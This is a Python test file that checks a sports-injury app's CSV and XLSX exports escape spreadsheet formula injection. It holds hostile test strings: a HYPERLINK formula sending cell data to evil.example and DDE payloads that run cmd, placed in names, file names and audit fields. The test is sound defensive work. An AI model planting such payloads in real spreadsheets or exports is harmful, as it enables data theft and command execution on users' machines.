"""Every CSV and XLSX the app or the command line writes, walked with hostile cells in the store:
no text cell may start with = + - @ tab or CR unescaped (OWASP "CSV injection"); a number may be
negative. Cells come in as an attacker with an upload button would put them: names, file names,
rejected values, tier reasons, notes, the audit log's `who`."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from lib import exports, privacy, store
from lib.cli import main
from lib.exports import FORMULA_TRIGGERS
from lib.ingest.importer import import_files
from lib.store.notes import add_note
from lib.readiness import Data, readiness_board, record_tier_change
from lib.core.schema import TABLES
from lib.views import access as access_views
from lib.views import data as data_views
from lib.core.settings import defaults

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ROSTER = ("Athlete ID,Name,Position,Squad,Injury date,Injured side,Diagnosis\r\n"
          "RTS001,Mia Laurent,Winger,First team,2026-10-01,left,=1+1 strain\r\n"
          "RTS002,@Jordan Okafor,+Fullback,-First team,2026-09-20,right,Soleus strain\r\n").encode()


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


def _hops() -> bytes:
    rows = ["Name,Test,Date,Side,Trial 1,Trial 2,Trial 3"]
    rows += [f"Mia Laurent,Single hop,2026-11-18,L,150,152,{_quoted(v)}" for v in HOSTILE]
    rows += [_quoted('=HYPERLINK("http://x","Mia")') + ",Single hop,2026-11-18,R,170,168,171"]
    return ("\r\n".join(rows) + "\r\n").encode()


@pytest.fixture
def hostile(engine: Engine) -> Engine:
    reports = import_files(engine, [("roster.csv", ROSTER), ("=HYPERLINK(1)+hops.csv", _hops()),
                                    ("@evil.csv", _hops().replace(b"2026-11-18", b"2026-11-19"))])
    assert all(r.readable for r in reports), [r.text() for r in reports]
    assert len(store.read_rejects(engine)) >= len(HOSTILE)
    record_tier_change(engine, "RTS001", pd.Timestamp("2026-11-20"), 2, DDE, who="=evil@club.org")
    add_note(engine, "RTS001", pd.Timestamp("2026-11-20"), HYPERLINK, who="+physio@club.org")
    return engine


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(body: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(body))
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _unescaped(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _number(c)]


def _writers(engine: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, tuple[str, bytes]]:
    """Every writer we have -> (csv|xlsx, bytes), on the hostile store."""
    data = Data.from_store(engine)
    board = readiness_board(data, pd.Timestamp("2026-11-21"), defaults())
    audit = privacy.read_audit(engine, "admin")
    out: dict[str, tuple[str, bytes]] = {
        "rejected rows download (Data page)": ("csv", data_views.rejects_csv(store.read_rejects(engine))),
        "rejected rows for a coach": ("csv", data_views.rejects_csv(privacy.rejects_for(engine, "coach"))),
        "audit log download (Access page)": ("csv", access_views.audit_csv(access_views.audit_table(audit))),
        "athlete record (Access page)": ("xlsx", privacy.athlete_record(engine, "RTS001", "admin", "dpo")),
        "board csv": ("csv", exports.board_csv(board)),
        "board workbook": ("xlsx", exports.board_workbook(board, None, defaults())),
        "all tables and the board": ("xlsx", exports.data_workbook(data, None, defaults(), board=board)),
        "all tables pseudonymised": ("xlsx", exports.export_bytes(engine, "all", "xlsx", "initials")),
    }
    for table in TABLES:
        out[f"{table} csv"] = ("csv", exports.table_csv(data, table))
        out[f"{table} csv with provenance (CLI)"] = ("csv", exports.export_bytes(engine, table, "csv", provenance=True))
        out[f"{table} xlsx (CLI)"] = ("xlsx", exports.export_bytes(engine, table, "xlsx", provenance=True))
    db = str(engine.url.database)
    for command in (["rejects"], ["imports"], ["match"], ["board", "--on", "2026-11-21", "--format", "csv"],
                    ["export", "tests"], ["export", "athletes"]):
        capsys.readouterr()
        assert main([*command, "--db", db]) == 0, command
        out[f"python -m lib {' '.join(command)}"] = ("csv", capsys.readouterr().out.encode("utf-8"))
    path = tmp_path / "all.xlsx"
    assert main(["export", "all", "--format", "xlsx", "-o", str(path), "--db", db]) == 0
    out["python -m lib export all --format xlsx"] = ("xlsx", path.read_bytes())
    return out


def test_no_writer_lets_a_formula_through(hostile: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    writers = _writers(hostile, tmp_path, capsys)
    seen_hostile = set()
    for what, (kind, body) in writers.items():
        cells = _csv_cells(body) if kind == "csv" else _xlsx_cells(body)
        assert _unescaped(cells) == [], what
        seen_hostile |= {c for c in cells if c.lstrip("'") in HOSTILE}
    # the hostile text did reach the files, escaped with one apostrophe, so the walk is not vacuous
    assert "'" + HYPERLINK in seen_hostile and "'" + DDE in seen_hostile


@pytest.mark.parametrize("make", [
    lambda e: data_views.rejects_csv(store.read_rejects(e)),
    lambda e: access_views.audit_csv(access_views.audit_table(privacy.read_audit(e, "admin"))),
])
def test_the_rejected_rows_and_audit_downloads_keep_the_text_readable(hostile: Engine,
                                                                      make: Callable[[Engine], bytes]) -> None:
    """Escaped, not dropped: the apostrophe is the only change, and our importer takes it off again."""
    cells = _csv_cells(make(hostile))
    assert any(c == "'" + HYPERLINK or c == "'" + DDE or c.startswith("'=evil") or c.startswith("'+physio")
               for c in cells)
    assert exports.unescape_cell("'" + HYPERLINK) == HYPERLINK
